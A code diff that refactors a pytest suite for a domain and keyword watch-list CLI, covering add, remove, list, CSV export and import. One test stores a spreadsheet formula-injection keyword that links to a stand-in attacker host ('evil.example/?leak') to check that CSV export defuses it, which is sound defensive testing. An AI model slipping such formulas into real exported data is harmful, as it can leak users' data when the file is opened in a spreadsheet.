@@ -10,12 +10,12 @@ from pathlib import Path
 import pytest
 
 from client.settings import key_fingerprint
-from sandbox import DEMO_KEY, SandboxServer
+from sandbox import DEMO_KEY
 from sandbox.accounts import ACCOUNTS
 from sandbox.keyword_data import serp_on
-from services.cli import main
 from store import HistoryStore
 from tests.sandbox_picks import new_domain
+from tests.store.commands import StoreCommand
 
 ACCOUNT = key_fingerprint(DEMO_KEY)
 OWN_SITES = ACCOUNTS[DEMO_KEY].sites
@@ -23,28 +23,15 @@ RIVAL = "semrush.com"
 
 
 @pytest.fixture
-def run(
-    sandbox: SandboxServer,
-    store_url: str,
-    monkeypatch: pytest.MonkeyPatch,
-    capsys: pytest.CaptureFixture[str],
-):
+def run(store_url: str, demo_command: StoreCommand) -> StoreCommand:
     """``python -m store watch …`` with the demo key and this test's database: (exit code, stdout, stderr)."""
-    monkeypatch.setenv("VERIFIEDDR_API_KEY", DEMO_KEY)
-    monkeypatch.setenv("VERIFIEDDR_API_BASE", sandbox.base_url)
-
-    def watch(*args: str) -> tuple[int, str, str]:
-        code = main(["watch", *args, "--database-url", store_url])
-        out, err = capsys.readouterr()
-        return code, out, err
-
-    return watch
+    return lambda *args: demo_command("watch", *args, "--database-url", store_url)
 
 
 def _own_sites_known(store_url: str) -> None:
     with HistoryStore.open(store_url) as store:
         for site in OWN_SITES:
-            store.watch(ACCOUNT, "domain", site, origin="own")
+            store.watchlist.watch(ACCOUNT, "domain", site, origin="own")
 
 
 def test_add_watches_a_listed_domain_records_today_at_once_and_is_audited(run, store_url: str) -> None:
@@ -52,10 +39,10 @@ def test_add_watches_a_listed_domain_records_today_at_once_and_is_audited(run, s
     assert code == 0, err
     assert f"Watching {RIVAL}" in out and f"{RIVAL}: recorded" in err
     with HistoryStore.open(store_url) as store:
-        assert store.is_watched(ACCOUNT, "domain", RIVAL)
-        assert len(store.domain_history(ACCOUNT, [RIVAL])) == 1  # its History is never empty
-        assert len(store.trust_map_days(ACCOUNT, RIVAL)) == 1
-        events = store.audit_events(ACCOUNT)
+        assert store.watchlist.is_watched(ACCOUNT, "domain", RIVAL)
+        assert len(store.queries.domain_history(ACCOUNT, [RIVAL])) == 1  # its History is never empty
+        assert len(store.queries.trust_map_days(ACCOUNT, RIVAL)) == 1
+        events = store.audit.events(ACCOUNT)
     assert events[["person", "operation", "target", "outcome"]].values.tolist() == [
         ["command line", "watch", RIVAL, "done"]
     ]
@@ -69,7 +56,7 @@ def test_add_refuses_a_domain_the_service_does_not_list_with_exit_2(run, store_u
     assert code == 2
     assert f"Not watched: {unlisted} is not a listed site on VerifiedDR" in err
     with HistoryStore.open(store_url) as store:
-        assert not store.is_watched(ACCOUNT, "domain", unlisted)
+        assert not store.watchlist.is_watched(ACCOUNT, "domain", unlisted)
 
 
 def test_add_watches_a_keyword_for_its_site_and_records_its_position(run, store_url: str) -> None:
@@ -78,8 +65,8 @@ def test_add_watches_a_keyword_for_its_site_and_records_its_position(run, store_
     code, _out, err = run("add", "keyword", "Cold  Brew Coffee", "--site", site)
     assert code == 0, err
     with HistoryStore.open(store_url) as store:
-        assert store.is_watched(ACCOUNT, "keyword", "cold brew coffee", site=site)
-        assert store.keyword_history(ACCOUNT, site)["position"].tolist() == [places[site]]
+        assert store.watchlist.is_watched(ACCOUNT, "keyword", "cold brew coffee", site=site)
+        assert store.queries.keyword_history(ACCOUNT, site)["position"].tolist() == [places[site]]
 
 
 def test_a_keyword_without_a_site_asks_for_one_when_the_account_has_several(run, store_url: str) -> None:
@@ -101,15 +88,15 @@ def test_remove_stops_watching_and_keeps_own_sites(run, store_url: str) -> None:
     code, _out, err = run("remove", "domain", OWN_SITES[0])
     assert code == 2 and "one of your own sites" in err
     with HistoryStore.open(store_url) as store:
-        assert not store.is_watched(ACCOUNT, "domain", RIVAL)
-        assert store.domain_history(ACCOUNT, [RIVAL])["domain"].tolist() == [RIVAL]  # history stays
+        assert not store.watchlist.is_watched(ACCOUNT, "domain", RIVAL)
+        assert store.queries.domain_history(ACCOUNT, [RIVAL])["domain"].tolist() == [RIVAL]  # history stays
 
 
 def test_list_shows_every_subject_with_its_site_and_as_csv(run, store_url: str) -> None:
     _own_sites_known(store_url)
     with HistoryStore.open(store_url) as store:
-        store.watch(ACCOUNT, "keyword", "cold brew coffee", site="northwind-coffee.com")
-        store.watch(ACCOUNT, "keyword", "old keyword")  # watched before keywords had a site
+        store.watchlist.watch(ACCOUNT, "keyword", "cold brew coffee", site="northwind-coffee.com")
+        store.watchlist.watch(ACCOUNT, "keyword", "old keyword")  # watched before keywords had a site
     code, out, _err = run("list")
     assert code == 0
     assert 'keyword "cold brew coffee" for northwind-coffee.com' in out
@@ -124,9 +111,9 @@ def test_list_shows_every_subject_with_its_site_and_as_csv(run, store_url: str) 
 def test_list_as_csv_defuses_a_subject_a_spreadsheet_would_run(run, store_url: str) -> None:
     hostile = '=HYPERLINK("http://evil.example/?leak","click")'
     with HistoryStore.open(store_url) as store:
-        store.watch(ACCOUNT, "keyword", hostile, site="northwind-coffee.com")
-        store.watch(ACCOUNT, "keyword", "-1+2", site="northwind-coffee.com")
-        stored = sorted(item.subject for item in store.watchlist(ACCOUNT))
+        store.watchlist.watch(ACCOUNT, "keyword", hostile, site="northwind-coffee.com")
+        store.watchlist.watch(ACCOUNT, "keyword", "-1+2", site="northwind-coffee.com")
+        stored = sorted(item.subject for item in store.watchlist.entries(ACCOUNT))
     code, out, _err = run("list", "--csv")
     assert code == 0
     subjects = sorted(row["subject"] for row in csv.DictReader(io.StringIO(out)))
@@ -156,10 +143,10 @@ def test_import_keeps_the_good_rows_and_names_each_bad_one_by_its_line(
     assert refused == ["line 3", "line 5", "line 6", "line 8"]
     assert f"line 5: not watched: {unlisted} is not a listed site on VerifiedDR" in err
     with HistoryStore.open(store_url) as store:
-        assert store.is_watched(ACCOUNT, "domain", RIVAL)
-        assert store.is_watched(ACCOUNT, "keyword", "cold brew coffee", site="northwind-coffee.com")
-        assert not store.is_watched(ACCOUNT, "domain", unlisted)
-        assert len(store.domain_history(ACCOUNT, [RIVAL])) == 1
+        assert store.watchlist.is_watched(ACCOUNT, "domain", RIVAL)
+        assert store.watchlist.is_watched(ACCOUNT, "keyword", "cold brew coffee", site="northwind-coffee.com")
+        assert not store.watchlist.is_watched(ACCOUNT, "domain", unlisted)
+        assert len(store.queries.domain_history(ACCOUNT, [RIVAL])) == 1
     code, out, _err = run("import", str(csv_file))
     assert out.strip().splitlines()[-1] == "watched 0, already watched 2, refused 4"
 
@@ -180,8 +167,8 @@ def test_import_tags_keywords_from_its_tags_column_and_audits_each_change(
     assert out.strip().splitlines()[-1] == "watched 3, already watched 0, refused 1"
     assert "line 4: tags not kept: a tag is a short label" in err
     with HistoryStore.open(store_url) as store:
-        assert store.keyword_tags(ACCOUNT) == {"cold brew coffee": ("blog", "coffee")}
-        audited = store.audit_events(ACCOUNT, operation="tag_keyword")
+        assert store.groups.keyword_tags(ACCOUNT) == {"cold brew coffee": ("blog", "coffee")}
+        audited = store.audit.events(ACCOUNT, operation="tag_keyword")
     assert audited["target"].tolist() == ["“cold brew coffee”: coffee, blog"]
     assert audited["person"].tolist() == ["command line"]
 
